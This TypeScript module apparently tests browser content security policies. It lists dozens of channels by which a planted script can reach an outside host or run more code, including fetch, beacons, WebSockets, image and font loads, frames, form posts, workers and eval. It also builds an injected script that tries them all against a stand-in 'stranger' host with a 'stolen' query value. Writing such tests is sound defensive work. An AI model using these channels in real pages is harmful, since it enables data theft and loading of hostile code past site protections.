interface Channel {
  readonly name: string;
  /**
   * Code that runs in the page. `to` makes an address of the stranger, `add` puts an element into the page, `tells` is code
   * that reports that it ran.
   */
  readonly code: string;
}

const channel = (name: string, code: string): Channel => ({ name, code });

/**
 * Ways in which a script in a page reaches another host or loads more script; the key is a part of the requested path.
 * Navigating the whole window (`location`, `window.open`, a link) and resolving a name ahead (preconnect, DNS) are left out: no
 * directive of any browser stops those.
 */
export const CHANNELS = {
  fetch: channel('a call', `fetch(to('fetch'))`),
  opaque: channel(
    'a call whose answer is not read',
    `fetch(to('opaque'), { mode: 'no-cors', method: 'POST', body: 'x' })`,
  ),
  xhr: channel(
    'an XMLHttpRequest',
    `const call = new XMLHttpRequest(); call.open('GET', to('xhr')); call.send()`,
  ),
  beacon: channel('a beacon', `navigator.sendBeacon(to('beacon'), 'x')`),
  socket: channel('a WebSocket', `new WebSocket(to('socket').replace('https', 'wss'))`),
  events: channel('a stream of events', `new EventSource(to('events'))`),
  picture: channel('a picture', `new Image().src = to('picture', '.png')`),
  icon: channel(
    'an icon of the page',
    `document.head.append(add('link', { rel: 'icon', href: to('icon', '.png') }))`,
  ),
  svg: channel(
    'a picture in SVG',
    `const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
     const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
     image.setAttribute('href', to('svg', '.png')); svg.append(image); document.body.append(svg)`,
  ),
  background: channel(
    'a background in a style',
    `add('div', { style: 'width:9px;height:9px;background:url(' + to('background', '.png') + ')' })`,
  ),
  stylesheet: channel(
    'a foreign stylesheet',
    `add('link', { rel: 'stylesheet', href: to('stylesheet', '.css') })`,
  ),
  importStyle: channel(
    'a stylesheet in a style',
    `add('style', {}, '@import url(' + to('importStyle', '.css') + ');')`,
  ),
  font: channel(
    'a font',
    `add('style', {}, '@font-face{font-family:planted;src:url(' + to('font', '.woff2') + ')}');
     add('p', { style: 'font-family:planted' }, 'text')`,
  ),
  video: channel('a video', `add('video', { src: to('video', '.mp4'), preload: 'auto' })`),
  audio: channel('a sound', `add('audio', { src: to('audio', '.mp3'), preload: 'auto' })`),
  object: channel('an object', `add('object', { data: to('object') })`),
  embed: channel('an embedded file', `add('embed', { src: to('embed') })`),
  frame: channel('a frame', `add('iframe', { src: to('frame') })`),
  srcdoc: channel(
    'a frame with a page written into it',
    `add('iframe', { srcdoc: '<img src="' + to('srcdoc', '.png') + '">' })`,
  ),
  framedForm: channel(
    'a form into a frame',
    `add('iframe', { name: 'planted-frame' });
     add('form', { action: to('framedForm'), method: 'post', target: 'planted-frame' }).submit()`,
  ),
  ping: channel('a ping of a link', `add('a', { href: '#planted', ping: to('ping') }).click()`),
  prefetch: channel('a page fetched ahead', `add('link', { rel: 'prefetch', href: to('prefetch') })`),
  manifest: channel('a manifest', `add('link', { rel: 'manifest', href: to('manifest') })`),
  script: channel('a foreign script', `add('script', { src: to('script', '.js') })`),
  module: channel('a foreign module', `add('script', { src: to('module', '.js'), type: 'module' })`),
  importModule: channel('an imported module', `return import(to('importModule', '.js'))`),
  worker: channel('a worker', `new Worker(to('worker', '.js'))`),
  blobWorker: channel(
    'a worker written by the script',
    `const code = new Blob(["fetch('" + to('blobWorker') + "')"], { type: 'text/javascript' });
     new Worker(URL.createObjectURL(code))`,
  ),
  base: channel(
    'another base of addresses',
    `const base = add('base', { href: to('base', '/') }); document.head.prepend(base);
     add('img', { src: 'base.png' }); base.remove()`,
  ),
  inline: channel('an inline script', `add('script', {}, tells('inline'))`),
  attribute: channel('a script in an attribute', `add('button', { onclick: tells('attribute') }).click()`),
  address: channel('a script in an address', `add('a', { href: 'javascript:' + tells('address') }).click()`),
  dataFrame: channel(
    'a frame with a script in its address',
    `add('iframe', { src: 'data:text/html,<script>fetch("' + to('dataFrame') + '")</script>' })`,
  ),
  eval: channel('eval', `eval(tells('eval'))`),
  newFunction: channel('a function made of text', `new Function(tells('newFunction'))()`),
  timer: channel('a timer with text', `setTimeout(tells('timer'), 0)`),
  // Submitted last, by `submitForm`: if the policy lets a form through, the page navigates away.
  form: channel('a form', ''),
} as const satisfies Record<string, Channel>;

export type ChannelName = keyof typeof CHANNELS;

/** Runs in the page, after all other channels. */
export function submitForm(action: string): void {
  const form = document.createElement('form');
  form.action = action;
  form.method = 'post';
  document.body.append(form);
  form.submit();
}

/** Runs on `load`, because most channels need a body. A channel that throws does not stop the next. */
export function plantedScript(stranger: string, mark: string): string {
  const attempts = Object.values(CHANNELS).map(({ code }) => `attempt(() => { ${code} });`);
  return `addEventListener('load', () => {
    const tell = (name) => console.debug('planted: ' + name);
    globalThis.plantedTells = tell;
    const tells = (name) => "plantedTells('" + name + "')";
    const to = (name, ending = '') => '${stranger}${mark}/' + name + ending + '?stolen=4242';
    const add = (tag, attributes, text = '') => {
      const element = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      element.textContent = text;
      document.body.append(element);
      return element;
    };
    const attempt = (work) => { try { Promise.resolve(work()).catch(() => {}); } catch {} };
    ${attempts.join('\n    ')}
    setTimeout(() => tell('done'), 300);
  });`;
}
